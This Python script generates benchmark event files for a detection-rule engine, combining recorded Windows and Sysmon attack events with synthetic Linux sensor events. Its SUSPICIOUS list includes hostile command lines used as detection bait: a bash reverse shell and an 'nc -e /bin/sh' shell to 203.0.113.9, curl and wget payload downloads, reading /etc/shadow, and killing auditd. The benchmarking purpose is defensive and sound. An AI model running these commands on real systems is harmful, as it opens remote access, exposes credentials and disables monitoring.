#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""The events that bench/rules.c is run with, one JSON event a line, the same ones every time.

usage: rules_lanes.py FOLDER [DATA]     DATA: recordings and rule collection, default ../shared/data beside the project.

  raw_windows.json   Security, System and other channels as Windows writes them: half flat (a forwarder's form, with the
                     rendered Message), half nested (Event/System, Event/EventData)
  sysmon_like.json   the Sysmon channel, flat from the recordings and nested from the collection's regression events
  linux.json         this product's own events of a Linux host, and records of the audit daemon
  mixed.json         the three, interleaved
bench_rules itself makes the lanes no-match, low-match and match-heavy out of what it read.
"""
import io
import json
import os
import random
import re
import sys
import tarfile
import zipfile

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
SYSMON = "Microsoft-Windows-Sysmon/Operational"
# What the System part of an event holds; the rest is its data.
SYSTEM = {"EventID", "Level", "Task", "Keywords", "Channel", "Hostname", "SourceName", "ProviderGuid", "TimeCreated",
          "@timestamp", "Message", "Version", "Opcode", "EventRecordID"}

# Command lines of a busy Linux host; a few of them are what rules look for.
COMMANDS = [
    "/usr/bin/ls -la /var/log", "/usr/bin/cat /proc/loadavg", "/usr/bin/grep -rn open_file src include",
    "/usr/bin/python3 /usr/lib/update-notifier/apt-check --human-readable", "/usr/bin/git -C /srv/app fetch --all --prune",
    "/usr/bin/gcc -std=c11 -O2 -Wall -Wextra -Iinclude -c src/main.c -o build/main.o", "/usr/bin/cc1 -quiet -I include main.c",
    "/usr/bin/as --64 -o build/main.o /tmp/ccQx81.s", "/usr/bin/ld -o build/app build/main.o build/net.o -lpthread",
    "/usr/bin/ninja -C build -j8", "/usr/sbin/cron -f -P", "/bin/sh -c test -x /usr/sbin/anacron || run-parts /etc/cron.daily",
    "/usr/bin/find /var/spool -type f -mtime +7 -name *.tmp", "/usr/bin/sed -e s/foo/bar/g /etc/app/app.conf",
    "/usr/bin/ssh -o BatchMode=yes backup@10.20.0.7 rsync --server --sender -logDtpr . /srv/data",
    "/usr/bin/docker exec web-1 nginx -s reload", "/usr/sbin/nginx -g daemon off;", "/usr/bin/psql -h db.internal -U app -c select 1",
    "/usr/bin/systemctl is-active postgresql.service", "/usr/bin/journalctl -u ssh -n 50 --no-pager",
    "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main", "/usr/bin/java -Xmx2g -jar /opt/app/app.jar --server.port=8080",
    "/usr/bin/node /srv/web/server.js --port 3000", "/usr/bin/kubectl get pods -n production -o json",
    "/usr/bin/tar czf /srv/backup/etc.tar.gz /etc/nginx /etc/app", "/usr/bin/ps aux", "/usr/bin/id -u", "/usr/bin/date +%s",
    "/usr/bin/awk {print $1} /var/log/nginx/access.log", "/usr/bin/sleep 5", "/usr/bin/dpkg-query -W -f=${Status} curl",
]
SUSPICIOUS = [
    "/usr/bin/whoami", "/usr/bin/base64 -d /tmp/x", "/usr/bin/crontab -e", "/usr/bin/cat /etc/shadow", "/usr/bin/uname -a",
    "/bin/bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "/usr/bin/curl -s http://203.0.113.9/x.sh", "/usr/bin/nc -e /bin/sh 203.0.113.9 4444",
    "/usr/bin/chmod 777 /tmp/payload", "/usr/bin/wget -O /tmp/payload http://203.0.113.9/payload", "/usr/bin/pkill -9 auditd",
    "/usr/sbin/iptables -F", "/usr/bin/history -c", "/usr/bin/dd if=/dev/zero of=/tmp/pad bs=1M count=10",
]
PARENTS = ["/usr/bin/bash", "/usr/lib/systemd/systemd", "/usr/sbin/sshd", "/usr/bin/make", "/usr/bin/dockerd", "/usr/bin/python3.11"]
FILES = ["/var/log/syslog", "/srv/app/cache/index.db", "/home/alice/.bash_history", "/tmp/ccQx81.s", "/var/lib/postgresql/15/main/pg_wal/0001",
         "/home/alice/src/app/build/main.o", "/run/systemd/units/log-extra", "/var/cache/apt/pkgcache.bin", "/etc/app/app.conf"]
NAMES = ["db.internal", "deb.debian.org", "api.github.com", "registry-1.docker.io", "metrics.example.com", "time.cloudflare.com"]


def documents(text):
    """The JSON documents of a file, one behind the other, with white space between them."""
    decoder = json.JSONDecoder()
    at = 0
    while True:
        at = re.compile(r"\s*").match(text, at).end()
        if at == len(text):
            return
        event, at = decoder.raw_decode(text, at)
        yield event


def recordings(data):
    """Windows events and audit records of the recorded attacks."""
    folder = os.path.join(data, "security-datasets")
    windows, audit = [], []
    for name in sorted(os.listdir(folder)):
        with zipfile.ZipFile(os.path.join(folder, name)) as z:
            for member in z.namelist():
                text = z.read(member).decode()
                if member.endswith(".json"):
                    windows += [json.loads(line) for line in text.splitlines() if line]
                else:
                    audit += [audit_record(line) for line in text.splitlines() if line.startswith("type=")]
    return windows, audit


def audit_record(line):
    """`type=EXECVE msg=audit(...): argc=2 a0="arp"` as an object."""
    return {k: v.strip('"') for k, v in re.findall(r'(\w+)=("[^"]*"|\S+)', line)}


def regression(data):
    """Events that the rule collection's own rules must match."""
    name = next(n for n in sorted(os.listdir(data)) if n.startswith("sigma-"))
    events = []
    with tarfile.open(os.path.join(data, name)) as tar:
        for member in tar:
            if "/regression_data/" in "/" + member.name and member.name.endswith(".json"):
                with io.TextIOWrapper(tar.extractfile(member), encoding="utf-8-sig") as f:
                    events += documents(f.read())
    return events


def channel(event):
    """Of a flat or nested event."""
    return event.get("Channel") or event.get("Event", {}).get("System", {}).get("Channel", "")


def nested(event):
    """A flat event as the Windows event log's own form."""
    system = {"Provider": {"#attributes": {"Name": event.get("SourceName", ""), "Guid": event.get("ProviderGuid", "")}},
              "EventID": event["EventID"], "Version": 0, "Level": event.get("Level"), "Task": event.get("Task"), "Opcode": 0,
              "Keywords": event.get("Keywords"), "TimeCreated": {"#attributes": {"SystemTime": event.get("TimeCreated", "")}},
              "EventRecordID": 67583, "Correlation": None, "Execution": {"#attributes": {"ProcessID": 4, "ThreadID": 288}},
              "Channel": event["Channel"], "Computer": event.get("Hostname", ""), "Security": None}
    fields = {k: v for k, v in event.items() if k not in SYSTEM}
    return {"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"}, "System": system,
                      "EventData": fields}}


class Host:
    """A Linux host with this product's sensor: makes events as docs/events.md has them."""

    def __init__(self, seed):
        self.random = random.Random(seed)
        self.seq = 0

    def line(self, kind, event_type, process, raw):
        """The envelope."""
        self.seq += 1
        return {"ts": f"2026-09-21T14:13:20.{self.seq % 1000000:06d}Z", "module": "kernel_callback", "event_type": event_type,
                "process": process, "raw": dict(sorted({**raw, **{"process_key": process["key"], "pid": process["pid"]}}.items())),
                "source": "kernel", "kind": kind, "event_version": 7, "seq": self.seq, "drop_count": 0, "trunc_count": 0}

    def process(self):
        """Envelope of a process."""
        pid = self.random.randrange(300, 4000000)
        return {"pid": pid, "ppid": self.random.randrange(1, pid), "key": f"{self.random.getrandbits(63):016x}", "uid": 1000}

    def create(self):
        """A program begins to run."""
        p = self.process()
        command = self.random.choice(SUSPICIOUS if self.random.random() < 0.03 else COMMANDS)
        path = command.split(" ")[0]
        argv = command.replace(path, os.path.basename(path), 1).split(" ")
        parent = self.random.choice(PARENTS)
        p.update(name=argv[0], path=path, command_line=" ".join(argv), user="alice", parent_key=f"{self.random.getrandbits(63):016x}")
        ids = {k: 1000 for k in ("uid", "gid", "euid", "egid", "suid", "sgid", "fsuid", "fsgid")}
        spaces = {f"ns_{k}": 4026531834 + i for i, k in enumerate(("cgroup", "ipc", "mnt", "net", "pid", "user", "uts"))}
        raw = {"argv": argv, "argv_size": len(command), "cap_bounding": 2199023255551, "cap_effective": 0, "cap_permitted": 0,
               "cgroup_id": 7745, "cgroup_name": "session-3.scope", "comm": argv[0][:15], "command_line": " ".join(argv),
               "creating_pid": p["pid"], "cwd": "/home/alice/src/app", "exe_ctime_ns": 1768896322000000000, "exe_dev": 8388609,
               "exe_inode": self.random.randrange(10**6), "exe_mode": 33261, "exe_mtime_ns": 1768896322000000000, "exe_nlink": 1,
               "exe_size": self.random.randrange(10**6), "exe_uid": 0, "image_path": path, "login_uid": 1000, "ns_pid_nr": p["pid"],
               "parent_image_name": os.path.basename(parent), "parent_image_path": parent, "parent_key": p["parent_key"],
               "parent_pid": p["ppid"], "pgid": p["pid"], "sid": 900, "tty": "pts0", "user": "alice",
               "sha256": f"{self.random.getrandbits(256):064x}", **ids, **spaces}
        return self.line("ProcessCreate", "process_create", p, raw)

    def fork(self):
        """A process is copied."""
        p = self.process()
        return self.line("ProcessFork", "process_fork", {**p, "name": "bash"},
                         {"comm": "bash", "creating_pid": p["ppid"], "parent_key": f"{self.random.getrandbits(63):016x}",
                          "parent_pid": p["ppid"], "uid": 1000})

    def terminate(self):
        """A process ends."""
        p = self.process()
        path = self.random.choice(COMMANDS).split(" ")[0]
        return self.line("ProcessExit", "process_terminate", {**p, "name": os.path.basename(path), "path": path},
                         {"clean_exit": True, "comm": os.path.basename(path), "exit_code": 0, "parent_pid": p["ppid"], "uid": 1000})

    def file(self):
        """A file is opened for writing."""
        p = self.process()
        path = self.random.choice(COMMANDS).split(" ")[0]
        target = self.random.choice(FILES)
        return self.line("FileWrite", "file_write", {**p, "name": os.path.basename(path), "path": path},
                         {"dev": 8388609, "inode": self.random.randrange(10**7), "mode": 420, "target_path": target, "uid": 1000})

    def connect(self):
        """A connection is opened."""
        p = self.process()
        return self.line("NetworkConnect", "network_connect", {**p, "name": "curl", "path": "/usr/bin/curl"},
                         {"direction": "outbound", "dst_ip": f"10.{self.random.randrange(256)}.0.7", "dst_port": 443, "protocol": "tcp",
                          "protocol_code": 6, "src_ip": "10.0.0.5", "src_port": self.random.randrange(1024, 65536), "uid": 1000})

    def dns(self):
        """A name is looked up."""
        p = self.process()
        return self.line("DnsQuery", "dns_query", {**p, "name": "curl", "path": "/usr/bin/curl"},
                         {"query_name": self.random.choice(NAMES), "query_type": "A", "query_status": 0, "answers": ["10.0.0.7"]})

    def events(self, count):
        """A day's mixture."""
        kinds = [self.create, self.fork, self.terminate, self.file, self.connect, self.dns]
        return [self.random.choices(kinds, [30, 15, 20, 20, 10, 5])[0]() for _ in range(count)]


def main():
    """Writes the lanes."""
    folder = sys.argv[1]
    data = sys.argv[2] if len(sys.argv) > 2 else os.path.join(ROOT, "..", "shared", "data")
    windows, audit = recordings(data)
    planted = regression(data)
    raw = [e for e in windows + planted if channel(e) != SYSMON]
    raw = [nested(e) if i % 2 and "Channel" in e else e for i, e in enumerate(raw)]
    sysmon = [e for e in windows + planted if channel(e) == SYSMON]
    linux = Host(4).events(2000) + audit * 5
    shuffle = random.Random(7)
    shuffle.shuffle(linux)
    mixed = raw + sysmon + linux
    shuffle.shuffle(mixed)
    os.makedirs(folder, exist_ok=True)
    for name, events in (("raw_windows", raw), ("sysmon_like", sysmon), ("linux", linux), ("mixed", mixed)):
        with open(os.path.join(folder, name + ".json"), "w", encoding="utf-8") as f:
            f.writelines(json.dumps(e, separators=(",", ":"), ensure_ascii=False) + "\n" for e in events)
        print(f"{name}: {len(events)} events", file=sys.stderr)


if __name__ == "__main__":
    main()
